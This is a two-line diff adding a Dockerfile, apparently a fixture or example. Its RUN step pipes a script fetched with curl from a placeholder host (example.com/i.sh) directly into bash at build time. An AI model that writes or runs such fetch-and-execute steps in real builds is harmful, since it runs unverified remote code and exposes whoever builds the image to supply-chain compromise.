@@ -1,0 +1,2 @@
+FROM debian:12
+RUN ["bash", "-c", "bash <(curl -s https://example.com/i.sh)"]
